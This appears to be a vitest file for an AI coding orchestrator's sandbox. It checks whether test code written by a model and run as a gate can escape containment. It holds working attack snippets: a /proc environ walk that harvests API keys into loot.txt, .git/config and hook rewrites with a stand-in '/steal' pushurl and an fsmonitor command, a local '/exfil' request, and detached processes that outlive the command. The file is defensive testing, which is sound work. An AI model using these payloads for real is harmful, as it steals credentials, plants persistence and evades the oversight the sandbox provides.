import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { SpawnShell } from '../../../src/adapters/shell/spawn-shell.js';
import { runGates } from '../../../src/engine/run-gates.js';
import type { Sandbox } from '../../../src/ports/sandbox-port.js';
import type { Shell } from '../../../src/ports/shell-port.js';
import { testSandbox } from '../../support/sandbox.js';
import { git, tempRepo } from '../../support/temp-repo.js';

/*
 * Break 1 and 6 of the containment issue, on real processes: test code the model wrote runs as a
 * gate. Every attack is first run WITHOUT the sandbox, to prove it really works on this machine,
 * then through the sandbox, where it must get nothing.
 */

const orchestratorScript = fileURLToPath(new URL('./orchestrator-process.ts', import.meta.url));
const canary = `sk-ant-canary-${Math.random().toString(36).slice(2)}`;
const plain: Shell = new SpawnShell({ killGraceMs: 300 });
let sandbox: Sandbox;
let listener: Server;
let connections = 0;
const repos: { dispose(): void }[] = [];

beforeAll(async () => {
  sandbox = await testSandbox();
  listener = createServer((_req, res) => {
    connections += 1;
    res.end('ok');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  await sandbox.close();
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});
afterEach(() => {
  for (const repo of repos.splice(0).reverse()) repo.dispose();
});

function repoWith(script: string): string {
  const repo = tempRepo({ 'attack.js': script, 'package.json': '{"name":"victim"}\n' });
  repos.push(repo);
  return repo.root;
}

async function gate(shell: Shell, root: string, timeoutSeconds = 20) {
  const report = await runGates([{ name: 'test', argv: ['node', 'attack.js'], source: 'config' }], {
    shell,
    cwd: root,
    timeoutMs: timeoutSeconds * 1000,
  });
  return report.runs[0]!;
}

// Walks every /proc/<pid>/environ it can read, the parent chain first (what the reported exploit did).
const procWalk = `
const fs = require('node:fs');
const found = [];
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  try { found.push(fs.readFileSync('/proc/' + pid + '/environ', 'utf8')); } catch {}
}
fs.writeFileSync('loot.txt', found.join('\\n'));
console.log(found.join('\\n'));
`;

describe('test code run by a gate', () => {
  // Maestro's own process, started with the secrets in its environment as a real run is.
  const orchestrate = (mode: 'plain' | 'sandbox', root: string) => {
    const result = spawnSync(process.execPath, ['--import', 'tsx', orchestratorScript, mode, root], {
      env: { ...process.env, ANTHROPIC_API_KEY: canary, GITHUB_TOKEN: `ghs_${canary}` },
      encoding: 'utf8',
      timeout: 60_000,
    });
    if (result.status !== 0) throw new Error(`orchestrator failed: ${result.stderr}`);
    return JSON.parse(result.stdout) as { outcome: string; outputTail: string };
  };

  it("reads the orchestrator's key from /proc without a sandbox (the attack is real)", () => {
    const root = repoWith(procWalk);
    const run = orchestrate('plain', root);
    expect(readFileSync(join(root, 'loot.txt'), 'utf8')).toContain(canary);
    expect(run.outcome).toBe('passed');
  });

  it("finds no key in any /proc/<pid>/environ inside the sandbox: Maestro's processes are not there", () => {
    const root = repoWith(procWalk);
    const run = orchestrate('sandbox', root);
    expect(run.outcome).toBe('passed');
    const loot = readFileSync(join(root, 'loot.txt'), 'utf8');
    expect(loot).toContain('PATH=');
    expect(loot).not.toContain(canary);
    expect(run.outputTail).not.toContain(canary);
  });

  const gitConfigAttack = `
const fs = require('node:fs');
fs.appendFileSync('.git/config', '[remote "origin"]\\n\\tpushurl = http://127.0.0.1:9/steal\\n');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\ntouch /tmp/pwned\\n');
`;

  it('rewrites .git/config and adds a hook without a sandbox (the attack is real)', async () => {
    const root = repoWith(gitConfigAttack);
    await gate(plain, root);
    expect(readFileSync(join(root, '.git/config'), 'utf8')).toContain('pushurl');
  });

  it('cannot change .git inside the sandbox: the config and hooks stay as they were', async () => {
    const root = repoWith(gitConfigAttack);
    const before = readFileSync(join(root, '.git/config'), 'utf8');
    const run = await gate(sandbox.shell, root);
    expect(run.outcome).toBe('failed');
    expect(run.outputTail).toMatch(/EROFS|read-only/i);
    expect(readFileSync(join(root, '.git/config'), 'utf8')).toBe(before);
    expect(existsSync(join(root, '.git/hooks/pre-commit'))).toBe(false);
  });

  it("cannot change a task worktree's .git pointer or the shared git directory", async () => {
    const root = repoWith(`
const fs = require('node:fs');
let blocked = 0;
try { fs.writeFileSync('.git', 'gitdir: /tmp/evil\\n'); } catch { blocked++; }
const common = fs.readFileSync('.git', 'utf8').trim().slice('gitdir: '.length);
try { fs.appendFileSync(require('node:path').join(common, '..', '..', 'config'), '[core]\\n\\tfsmonitor = touch /tmp/x\\n'); } catch { blocked++; }
console.log('blocked=' + blocked);
`);
    const worktree = `${root}-wt`;
    git(root, 'worktree', 'add', '-q', '--detach', worktree);
    repos.push({ dispose: () => git(root, 'worktree', 'remove', '--force', worktree) });
    const before = readFileSync(join(root, '.git/config'), 'utf8');
    const shell = (await testSandbox({ repoRoot: root })).shell;
    const report = await runGates([{ name: 'test', argv: ['node', 'attack.js'], source: 'config' }], {
      shell,
      cwd: worktree,
      timeoutMs: 20_000,
    });
    expect(report.runs[0]!.outputTail).toContain('blocked=2');
    expect(readFileSync(join(root, '.git/config'), 'utf8')).toBe(before);
  });

  it('reaches a listener on 127.0.0.1 without a sandbox, and nothing with one', async () => {
    const port = (listener.address() as AddressInfo).port;
    const root = repoWith(`
require('node:http').get('http://127.0.0.1:${port}/exfil', (r) => { console.log('status', r.statusCode); process.exit(0); })
  .on('error', (e) => { console.log('error', e.code); });
`);
    await gate(plain, root);
    expect(connections).toBe(1);
    const run = await gate(sandbox.shell, root);
    expect(run.outputTail).toMatch(/error E(CONNREFUSED|NETUNREACH)/);
    expect(connections).toBe(1);
  });

  it('sees an empty $HOME and a private /tmp', async () => {
    const secret = join(homedir(), `.maestro-canary-${process.pid}`);
    writeFileSync(secret, canary);
    repos.push({ dispose: () => writeFileSync(secret, '') });
    const root = repoWith(`
const fs = require('node:fs');
let home = 'hidden';
try { home = fs.readFileSync(${JSON.stringify(secret)}, 'utf8'); } catch {}
fs.writeFileSync('/tmp/maestro-sandbox-tmp-${process.pid}', 'x');
console.log('home=' + home + ' ssh=' + fs.existsSync(require('node:os').homedir() + '/.ssh'));
`);
    const run = await gate(sandbox.shell, root);
    expect(run.outputTail).toContain('home=hidden ssh=false');
    expect(run.outputTail).not.toContain(canary);
    expect(existsSync(`/tmp/maestro-sandbox-tmp-${process.pid}`)).toBe(false);
  });

  it('writes nowhere but its workspace', async () => {
    const root = repoWith(`
const fs = require('node:fs');
const results = [];
for (const target of ['/etc/maestro-x', '/usr/maestro-x', ${JSON.stringify(join(homedir(), 'maestro-x'))}, 'inside.txt']) {
  try { fs.writeFileSync(target, 'x'); results.push(target + ':written'); } catch (e) { results.push(target + ':' + e.code); }
}
console.log(results.join(' '));
`);
    const run = await gate(sandbox.shell, root);
    expect(run.outputTail).toContain('inside.txt:written');
    expect(run.outputTail).not.toMatch(/\/etc\/maestro-x:written|\/usr\/maestro-x:written/);
    expect(existsSync('/etc/maestro-x')).toBe(false);
    expect(existsSync(join(homedir(), 'maestro-x'))).toBe(false);
  });
});

describe('a process the command left behind', () => {
  // Detached into its own session, so killing the command's process group does not reach it.
  const forker = `
const { spawn } = require('node:child_process');
spawn('sh', ['-c', 'sleep 1.5; echo survived > survivor.txt'], { detached: true, stdio: 'ignore' }).unref();
console.log('forked');
`;
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

  it('outlives the command without a sandbox (the attack is real)', async () => {
    const root = repoWith(forker);
    await gate(plain, root);
    await wait(2500);
    expect(existsSync(join(root, 'survivor.txt'))).toBe(true);
  });

  it('is gone when the sandboxed command ends: the PID namespace dies with it', async () => {
    const root = repoWith(forker);
    const run = await gate(sandbox.shell, root);
    expect(run.outputTail).toContain('forked');
    await wait(2500);
    expect(existsSync(join(root, 'survivor.txt'))).toBe(false);
  });

  it('is gone when a hung sandboxed command is killed at its timeout', async () => {
    const root = repoWith(`${forker}\nsetInterval(() => {}, 1000);`);
    const run = await gate(sandbox.shell, root, 1);
    expect(run.outcome).toBe('timed-out');
    await wait(2500);
    expect(existsSync(join(root, 'survivor.txt'))).toBe(false);
  });
});
